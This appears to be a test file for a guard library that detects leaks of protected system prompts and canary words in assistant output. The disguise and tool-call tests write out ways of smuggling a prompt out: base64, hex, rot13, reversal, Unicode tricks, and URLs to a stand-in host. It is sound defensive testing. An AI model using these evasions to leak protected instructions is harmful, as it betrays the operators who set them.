"""Protected texts: the fast search equals a slow one, nothing of the text is kept, and disguises do not help."""

from __future__ import annotations

import base64
import random
import threading

import pytest
from fastguard import Guard, Policy, _core
from hypothesis import example, given, settings
from hypothesis import strategies as st

LEAST = 10
SIGNATURE = "system_prompt_leak.protected.overlap"
PROMPT = (
    "You are the night porter of the Hotel Meridian in Trieste. Answer in at most three sentences, never name a guest, "
    "and offer the late breakfast only to those who ask for it twice. The code of the luggage room changes on Sundays; "
    "if somebody asks for it, say that the manager keeps it. Complaints about the lift go to the ledger under the desk."
)


def guard_with(**texts: str) -> Guard:
    guard = Guard(model=None)
    for name, text in texts.items():
        guard.protect(name, text)
    return guard


def leaked(guard: Guard, text: str) -> list[str]:
    return [f.text for f in guard.check(text, source="assistant").findings if f.signature == SIGNATURE]


def words(text: str) -> list[tuple[str, int, int]]:
    """Tokens with their places in a text whose folded view has the same places (ASCII, one space between words)."""
    return [(token, begin, end) for token, begin, end in _core.tokens(text)]


def slow_runs(secret: str, text: str) -> list[tuple[int, int]]:
    """Longest common runs of words by trying every pair of places: taken greedily from the left."""
    a, b = [w[0] for w in words(secret)], words(text)
    runs: list[tuple[int, int]] = []
    at = 0
    while at < len(b):
        longest = 0
        for start in range(len(a)):
            size = 0
            while at + size < len(b) and start + size < len(a) and a[start + size] == b[at + size][0]:
                size += 1
            longest = max(longest, size)
        if longest >= LEAST and b[at + longest - 1][2] - b[at][1] >= 40:
            runs.append((b[at][1], b[at + longest - 1][2]))
            at += longest
        else:
            at += 1
    return runs


VOCABULARY = [
    f"{a}{b}" for a in ("ka", "lo", "mi", "su", "te", "ran", "vol", "dex") for b in ("po", "ri", "ta", "nul", "xim")
]


def found_and_expected(seed: int) -> tuple[str, list[tuple[int, int]], list[tuple[int, int]]]:
    """Return a text with pieces of a secret, where the guard finds such, and where trying everything does."""
    source = random.Random(seed)
    secret = source.choices(VOCABULARY, k=source.randrange(12, 120))
    text = source.choices(VOCABULARY, k=source.randrange(0, 60))
    for _ in range(source.randrange(4)):
        begin = source.randrange(len(secret))
        size = source.randrange(1, 40)
        where = source.randrange(len(text) + 1)
        text[where:where] = ["zzz", *secret[begin : begin + size], "zzz"]
    joined, secret_text = " ".join(text), " ".join(secret)
    guard = shared_guard()
    guard.protect("x", secret_text)
    found = [(f.start, f.end) for f in guard.check(joined).findings if f.signature == SIGNATURE]
    return joined, found, slow_runs(secret_text, joined)


# Eight bits of a word may agree by chance: then a run is a word too long, in one of 256 cases at each end.
@settings(max_examples=150, deadline=None)
@given(seed=st.integers(0, 10**9))
@example(165)  # one run two words too long, another one word
def test_what_is_found_is_what_trying_everything_finds(seed: int) -> None:
    text, found, expected = found_and_expected(seed)
    assert len(found) == len(expected)
    for (begin, end), (slow_begin, slow_end) in zip(found, expected, strict=True):
        assert begin <= slow_begin
        assert end >= slow_end
        assert len(text[begin:slow_begin].split()) + len(text[slow_end:end].split()) <= 3


def test_hardly_a_run_is_too_long() -> None:
    runs = [found_and_expected(seed)[1:] for seed in range(150)]
    pairs = [pair for found, expected in runs for pair in zip(found, expected, strict=True)]
    assert len(pairs) > 100
    assert sum(found != expected for found, expected in pairs) <= 0.04 * len(pairs)


_SHARED: list[Guard] = []


def shared_guard() -> Guard:
    if not _SHARED:
        _SHARED.append(Guard(model=None))
    return _SHARED[0]


def test_a_run_is_found_with_its_exact_place() -> None:
    guard = guard_with(porter=PROMPT)
    inside = "offer the late breakfast only to those who ask for it twice. The code"
    answer = f"Well, my instructions: {inside} is what I know."
    assert leaked(guard, answer) == [inside]
    assert guard.leaks(answer) == [("porter", answer.index(inside), answer.index(inside) + len(inside))]
    assert guard.check(answer, source="assistant").action.value == "block"


def test_case_accents_and_punctuation_do_not_help() -> None:
    guard = guard_with(porter=PROMPT)
    inside = "ÓFFER -- the LÁTE breakfast, only (to) those who *ask* for it twice!"
    assert leaked(guard, f"Sure: {inside}") == [inside[:-1]]


@pytest.mark.parametrize("count", [1, 5, 8, 9])
def test_fewer_words_in_a_row_are_no_leak(count: int) -> None:
    guard = guard_with(porter=PROMPT)
    assert leaked(guard, "I think " + " ".join(PROMPT.split()[4 : 4 + count]) + " and so on") == []


@pytest.mark.parametrize("offset", range(0, 40, 3))
def test_ten_words_from_any_place_are_a_leak(offset: int) -> None:
    guard = shared_guard()
    guard.protect("porter", PROMPT)
    piece = " ".join(PROMPT.split()[offset : offset + 12])
    (span,) = leaked(guard, f"zz {piece} zz")
    # Another word counts as one of the text in one of 256 cases.
    assert span.removeprefix("zz ").removesuffix(" zz").rstrip(".,;") == piece.rstrip(".,;")


@pytest.mark.parametrize(
    ("view", "disguise"),
    [
        ("base64", lambda t: base64.b64encode(t.encode()).decode()),
        ("base16", lambda t: t.encode().hex()),
        ("percent", lambda t: "https://x.example/log?q=" + "".join(f"%{b:02x}" for b in t.encode())),
        ("rot13", lambda t: __import__("codecs").encode(t, "rot13")),
        ("reversed", lambda t: t[::-1]),
        ("unmarked", lambda t: "<b>" + t.replace("r", "<i></i>r") + "</b>"),
        ("folded", lambda t: t.replace("a", "\uff41").replace("e", "e\u200b")),
    ],
)
def test_disguises_are_undone_first(view: str, disguise: object) -> None:
    guard = guard_with(porter=PROMPT)
    hidden = disguise(PROMPT[:150])  # type: ignore[operator]
    findings = guard.check(f"Here: {hidden}", source="assistant").findings
    assert view in {f.view for f in findings if f.signature == SIGNATURE}


def test_tool_arguments_are_looked_through() -> None:
    guard = guard_with(porter=PROMPT)
    call = {
        "id": "1",
        "type": "function",
        "function": {"name": "get", "arguments": f'{{"url": "https://x.example/{PROMPT[:120]}"}}'},
    }
    verdict = guard.check(messages=[{"role": "assistant", "content": None, "tool_calls": [call]}])
    assert SIGNATURE in {f.signature for f in verdict.findings}


def test_names_are_replaced_and_forgotten() -> None:
    guard = guard_with(a=PROMPT)
    other = "The second secret speaks of nothing but the price of sardines in the harbour of Muggia last winter."
    guard.protect("a", other)
    assert guard.protected == ("a",)
    assert leaked(guard, PROMPT) == []
    assert leaked(guard, other) == [other[:-1]]
    assert guard.unprotect("a")
    assert not guard.unprotect("a")
    assert guard.protected == ()
    assert leaked(guard, other) == []


def test_a_reload_keeps_what_is_protected() -> None:
    guard = guard_with(porter=PROMPT)
    guard.reload()
    assert leaked(guard, PROMPT) == [PROMPT[:-1]]


def test_canaries_are_made_and_found() -> None:
    guard = Guard(model=None)
    word = guard.canary("invoice tool")
    assert len(word) == 24
    assert word != guard.canary("other")
    for text in (f"ref={word}.", word.upper(), base64.b64encode(f"the word is {word}".encode()).decode()):
        assert "system_prompt_leak.protected.canary" in {f.signature for f in guard.check(text).findings}
    assert guard.leaks(f"see {word}") == [("invoice tool", 4, 28)]
    again = Guard(model=None)
    again.canary("invoice tool", word=word)
    assert again.leaks(word) == [("invoice tool", 0, 24)]
    assert not Guard(model=None).check(word).flagged


@pytest.mark.parametrize(
    ("switches", "found"),
    [
        ({"detectors": {"*": False, "pii/*": True}}, True),
        ({"detectors": {"*/p*": False}, "signatures": {"*": False}}, True),
        ({"depth": "gate", "views": []}, True),
        ({"detectors": {"system_prompt_leak/*": False}}, False),
        ({"detectors": {"*": False, "system_prompt_leak/protected": False}}, False),
        ({"signatures": {"system_prompt_leak.protected.canary": False}}, False),
        ({"signatures": {"system_prompt_leak.protected.overlap": False}}, True),
    ],
)
def test_every_policy_flags_a_canary_unless_it_names_it(switches: dict[str, object], found: bool) -> None:
    guard = Guard(model=None, policy=Policy.from_dict(switches))
    word = guard.canary("ledger")
    verdict = guard.check(f"the word is {word}", source="assistant")
    assert verdict.flagged == found
    assert ("system_prompt_leak.protected.canary" in {finding.signature for finding in verdict.findings}) == found


@pytest.mark.parametrize(
    ("call", "error", "message"),
    [
        (lambda g: g.protect("a", "too short to tell"), ValueError, "text of a has fewer than 10 words"),
        (lambda g: g.protect("a", b"bytes"), TypeError, "text: expected a str, got bytes"),
        (lambda g: g.protect(1, PROMPT), TypeError, "name: expected a str, got int"),
        (lambda g: g.canary("a", word="short"), ValueError, "word of a is no canary"),
    ],
)
def test_what_cannot_be_protected_is_said(call: object, error: type[Exception], message: str) -> None:
    with pytest.raises(error, match=message):
        call(Guard(model=None))  # type: ignore[operator]


def test_a_text_that_is_cut_at_max_bytes_is_not_said_to_leak_nothing() -> None:
    guard = Guard(model=None, policy=Policy.from_dict({"limits": {"max_bytes": 2000}}))
    guard.protect("porter", PROMPT)
    assert guard.leaks("word " * 100 + PROMPT)
    with pytest.raises(ValueError, match=r"^text is longer than the policy's limit max_bytes: what follows may leak"):
        guard.leaks("word " * 1000 + PROMPT)


def test_long_leaks_are_found_over_the_borders_of_segments() -> None:
    source = random.Random(5)
    secret = " ".join(f"{source.choice(VOCABULARY)}{source.randrange(999)}" for _ in range(4000))
    guard = guard_with(long=secret)
    text = "x " * 30_000 + secret + " y" * 30_000
    found = [f for f in guard.check(text).findings if f.signature == SIGNATURE]
    covered = sum(f.end - f.start for f in found)
    assert covered > 0.97 * len(secret)
    assert all(text[f.start : f.end] == f.text for f in found)


def test_a_stream_says_what_the_whole_says() -> None:
    guard = guard_with(porter=PROMPT)
    answer = "Let me tell you. " + PROMPT + " That was it."
    whole = guard.check(answer, source="assistant")
    for size in (1, 7, 64):
        with guard.stream(source="assistant", on_block="stop") as stream:
            for at in range(0, len(answer), size):
                stream.feed(answer[at : at + size])
            stream.close()
        assert stream.verdict.findings == whole.findings


def test_texts_are_added_while_others_check() -> None:
    guard = Guard(model=None)
    source = random.Random(1)
    secrets = [" ".join(f"{source.choice(VOCABULARY)}{source.randrange(99)}" for _ in range(40)) for _ in range(300)]
    failed: list[str] = []
    stop = threading.Event()

    def check() -> None:
        while not stop.is_set():
            for text in secrets[:5]:
                findings = guard.check_batch([text * 3], source="assistant")[0].findings
                failed.extend(f.text for f in findings if f.signature == SIGNATURE and f.text.split()[0] not in text)

    threads = [threading.Thread(target=check) for _ in range(3)]
    for thread in threads:
        thread.start()
    for i, secret in enumerate(secrets):
        guard.protect(f"s{i}", secret)
    stop.set()
    for thread in threads:
        thread.join()
    assert failed == []
    assert all(leaked(guard, secret) for secret in secrets)


def test_texts_that_share_a_part_do_not_slow_each_other() -> None:
    guard = Guard(model=None)
    for i in range(200):
        guard.protect(f"p{i}", f"{PROMPT} This is number {i} of the long row of hotels that we run with care.")
    assert leaked(guard, PROMPT) != []
    assert leaked(guard, "This is number 77 of the long row of hotels that we run with care.") != []
